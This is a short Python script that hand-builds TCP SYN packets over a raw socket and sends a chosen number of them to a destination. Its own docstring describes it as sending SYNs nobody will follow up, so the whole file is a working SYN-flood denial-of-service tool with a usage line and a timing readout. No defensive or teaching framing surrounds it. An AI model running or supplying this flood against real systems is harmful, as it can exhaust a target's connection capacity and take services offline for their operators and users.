"""Sends SYNs that nobody will ever follow up. usage: flood.py SOURCE DESTINATION COUNT"""
import ipaddress
import socket
import struct
import sys
import time

from forge import checksum


def main(source: str, destination: str, count: str) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    pseudo = ipaddress.ip_address(source).packed + ipaddress.ip_address(destination).packed \
        + struct.pack("!HH", 6, 20)
    begun = time.monotonic()
    for number in range(int(count)):
        syn = bytearray(struct.pack("!HHIIBBHHH", 1024 + number % 60000, 7 + number // 60000, number, 0,
                                    5 << 4, 2, 65535, 0, 0))
        syn[16:18] = struct.pack("!H", checksum(pseudo + bytes(syn)))
        raw.sendto(syn, (destination, 0))
    print(f"{count} SYNs in {time.monotonic() - begun:.1f} s")


if __name__ == "__main__":
    main(*sys.argv[1:])
